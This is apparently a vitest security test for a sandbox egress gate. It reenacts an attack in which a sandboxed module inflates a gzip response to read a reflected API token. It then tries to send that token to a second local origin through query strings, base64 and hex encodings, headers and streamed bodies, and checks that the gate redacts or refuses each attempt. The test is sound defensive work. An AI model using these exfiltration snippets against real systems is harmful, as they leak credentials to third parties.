/**
 * Issue 15, item 1, as the attack was run: a sandboxed module asks an echoing origin for gzip,
 * inflates the answer in QuickJS with its own inflater, reads the credential the gate attached
 * and sends it out in a query string to another declared origin. Real sandbox process, real
 * gate, real credential store, servers on 127.0.0.1. Both halves must fail: the gate owns content
 * coding (the module gets decoded, redacted bytes), and a request carrying a secret is refused
 * before it is sent, recorded, with the part it was in.
 */
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createEgressGate, InMemoryEgressRecorder } from '../gate/index.js';
import type { EgressGate, EgressRecord } from '../gate/index.js';
import { startServer } from '../gate/__fixtures__/servers.js';
import type { TestServer } from '../gate/__fixtures__/servers.js';
import { base64Embedded, leaks } from '../gate/__fixtures__/spellings.js';
import { SandboxHost } from './host.js';
import type { SandboxedConnector } from './sandboxed-connector.js';
import { HOME, SECRETS, deferredEgress, gatedAuth, gatedRunner, loopbackResolver, openStoreUnderTest, reflect } from './__fixtures__/gated.js';
import type { StoreUnderTest } from './__fixtures__/gated.js';
import { GUNZIP_SOURCE } from './__fixtures__/inflate.js';

const SECRET_VALUES = [SECRETS.token, SECRETS.password, SECRETS.apiKey, SECRETS.session, Buffer.from(`${SECRETS.user}:${SECRETS.password}`).toString('base64')];

/** The echo, gzipped when the request accepts gzip (or always, with `force=1`), as real servers do. */
function gzipEcho(req: IncomingMessage, res: ServerResponse, body: Buffer): void {
  const force = new URL(req.url ?? '/', 'http://x').searchParams.get('force') === '1';
  if (!force && !/\bgzip\b/.test(String(req.headers['accept-encoding'] ?? ''))) {
    reflect(req, res, body);
    return;
  }
  const coded = gzipSync(Buffer.from(JSON.stringify({ method: req.method, url: req.url, headers: req.headers })));
  res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': String(coded.length) });
  res.end(coded);
}

let api: TestServer;
let second: TestServer;
let store: StoreUnderTest;
let gate: EgressGate;
const recorder = new InMemoryEgressRecorder();
const host = new SandboxHost({ log: () => undefined, limits: { callTimeoutMs: 20_000 } });
let apiOrigin: string;
let secondOrigin: string;
let attacker: SandboxedConnector;
/** What the module was given besides the origins: a gzip sample to prove its inflater, and (for the second half) a secret it learned elsewhere. */
const SAMPLE = 'inflated in QuickJS: {"x-api-token":"sample"}';

async function load(label: string): Promise<SandboxedConnector> {
  const egress = deferredEgress();
  const source = gatedRunner(gatedAuth([apiOrigin, secondOrigin]));
  const config = { api: apiOrigin, second: secondOrigin, sample: [...gzipSync(Buffer.from(SAMPLE))], known: SECRETS.token };
  const connector = await host.load({ source, label, config, egress });
  const auth = connector.describe().auth;
  egress.bind(gate.forHost({ hostId: label, auth, credentials: await store.sourceFor({ scope: HOME, host: label }, auth), allowPrivateOrigins: [apiOrigin, secondOrigin] }));
  return connector;
}

async function run(connector: SandboxedConnector, code: string): Promise<unknown> {
  const extra = (await connector.list({ prefix: `${GUNZIP_SOURCE}\n${code}` })).entries[0]?.extra as { value?: unknown; error?: string };
  if (extra.error !== undefined) throw new Error(`the module threw: ${extra.error}`);
  return extra.value;
}

async function recorded(work: () => Promise<unknown>): Promise<{ value: unknown; records: EgressRecord[] }> {
  const before = recorder.records.length;
  const value = await work();
  return { value, records: recorder.records.slice(before) };
}

beforeAll(async () => {
  api = await startServer(gzipEcho);
  second = await startServer(reflect);
  apiOrigin = `http://localhost:${api.port}`;
  secondOrigin = `http://localhost:${second.port}`;
  store = await openStoreUnderTest();
  gate = createEgressGate({ recorder, resolver: loopbackResolver, retry: { baseDelayMs: 1 } });
  attacker = await load('gzip-attacker');
});

afterAll(async () => {
  await host.close();
  await gate.close();
  await store.close();
  await Promise.all([api.close(), second.close()]);
});

describe('the attack: Accept-Encoding: gzip, inflate in QuickJS, read the credential, send it out', () => {
  it('the module can inflate gzip itself (so coded bytes would have given the secret away)', async () => {
    expect(await run(attacker, `return new TextDecoder().decode(gunzip(new Uint8Array(config.sample)));`)).toBe(SAMPLE);
  });

  it('fails at the first step: the gate asks for its own codings, decodes and redacts; the module has nothing to inflate or steal', async () => {
    const { value, records } = await recorded(() =>
      run(
        attacker,
        `const r = await fetch(config.api + '/gzip-echo', { headers: { 'Accept-Encoding': 'gzip' } });
         const bytes = new Uint8Array(await r.arrayBuffer());
         let text, inflated = false;
         try { text = new TextDecoder().decode(gunzip(bytes)); inflated = true; }
         catch (error) { text = new TextDecoder().decode(bytes); }
         const match = /"x-api-token":"([^"]*)"/.exec(text);
         const stolen = match ? match[1] : '';
         let sent;
         try { sent = (await fetch(config.second + '/collect?k=' + encodeURIComponent(stolen))).status; }
         catch (error) { sent = error.message; }
         return { encoding: r.headers.get('content-encoding'), length: r.headers.get('content-length'), inflated, text, stolen, sent };`,
      ),
    );
    const seen = value as { encoding: string | null; length: string | null; inflated: boolean; text: string; stolen: string; sent: unknown };
    // The origin did gzip (the gate asked for it), with the credential in what it reflected.
    const echoed = api.requests.at(-1)!;
    expect(echoed.headers['accept-encoding']).toBe('gzip, deflate, br');
    expect(echoed.headers['x-api-token']).toBe(SECRETS.token);
    // The module got plain, redacted JSON: nothing to inflate, nothing to read.
    expect(seen).toMatchObject({ encoding: null, length: null, inflated: false, stolen: '*'.repeat(SECRETS.token.length), sent: 200 });
    expect(JSON.parse(seen.text)).toMatchObject({ headers: { 'x-api-token': '*'.repeat(SECRETS.token.length) } });
    for (const secret of SECRET_VALUES) expect(leaks(JSON.stringify(value), secret)).toBe(false);
    // What it sent out is the masked text (the gate attached the credential to that request itself, as `present` says).
    expect(new URL(second.requests.at(-1)!.url, 'http://x').searchParams.get('k')).toBe('*'.repeat(SECRETS.token.length));
    expect(records).toEqual([
      expect.objectContaining({ origin: apiOrigin, decision: 'allow', status: 200, credentialed: true }),
      expect.objectContaining({ origin: secondOrigin, decision: 'allow', status: 200 }),
    ]);
  });

  it('a coded answer the gate did not ask for (a gzip answer to a range request) is refused, not handed over', async () => {
    const { value, records } = await recorded(() =>
      run(
        attacker,
        `try { await fetch(config.api + '/gzip-echo?force=1', { headers: { range: 'bytes=0-' } }); return 'answered'; }
         catch (error) { return { message: error.message, cause: error.cause }; }`,
      ),
    );
    expect(value).toEqual({ message: expect.stringContaining('did not ask for'), cause: { failure: 'origin_refused', origin: apiOrigin } });
    expect(records.at(-1)).toMatchObject({ decision: 'refuse', reason: 'unrequested_content_encoding', credentialed: true });
  });

  it('fails at the second step: a secret the module holds (however it got it) never leaves, in the query or any other spelling or part', async () => {
    const before = second.requests.length;
    const connections = second.connections;
    const attempts = {
      'query string': `fetch(config.second + '/collect?k=' + config.known)`,
      'query, upper case': `fetch(config.second + '/collect?k=' + config.known.toUpperCase())`,
      'path, base64url': `fetch(config.second + '/c/' + ${JSON.stringify(base64Embedded(SECRETS.token, 1, true))})`,
      'fragment, hex': `fetch(config.second + '/c#' + ${JSON.stringify(Buffer.from(SECRETS.token).toString('hex'))})`,
      header: `fetch(config.second + '/c', { headers: { 'X-Data': 'v=' + config.known } })`,
      'buffered body': `fetch(config.second + '/c', { method: 'POST', body: JSON.stringify({ k: config.known }) })`,
      'streamed body': `fetch(config.second + '/c', { method: 'POST', body: new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('x'.repeat(2000) + config.known.slice(0, 7))); c.enqueue(new TextEncoder().encode(config.known.slice(7))); c.close(); } }) })`,
    };
    const { value, records } = await recorded(() =>
      run(
        attacker,
        `const out = {};
         for (const [label, attempt] of Object.entries({ ${Object.entries(attempts)
           .map(([label, code]) => `${JSON.stringify(label)}: () => ${code}`)
           .join(', ')} })) {
           try { out[label] = (await attempt()).status; } catch (error) { out[label] = { message: error.message, cause: error.cause }; }
         }
         return out;`,
      ),
    );
    const answers = value as Record<string, { message: string; cause: unknown }>;
    for (const label of Object.keys(attempts)) {
      expect(answers[label], label).toEqual({ message: expect.stringContaining("carries the host's credential"), cause: { failure: 'origin_refused', origin: secondOrigin } });
      expect(leaks(answers[label]!.message, SECRETS.token)).toBe(false);
    }
    // Nothing but (at most) the streamed body's leading bytes reached the second origin.
    for (const request of second.requests.slice(before)) expect(leaks(`${request.url} ${JSON.stringify(request.headers)} ${request.body.toString()}`, SECRETS.token)).toBe(false);
    expect(second.connections - connections).toBeLessThanOrEqual(1);
    expect(records).toEqual([
      ...['url', 'url', 'url', 'url', 'header x-data', 'body'].map((part) => expect.objectContaining({ origin: secondOrigin, decision: 'refuse', reason: 'secret_in_request', part })),
      expect.objectContaining({ origin: secondOrigin, method: 'POST', decision: 'refuse', reason: 'secret_in_request', part: 'body' }),
    ]);
    expect(leaks(JSON.stringify(recorder.records), SECRETS.token)).toBe(false);
  });
});
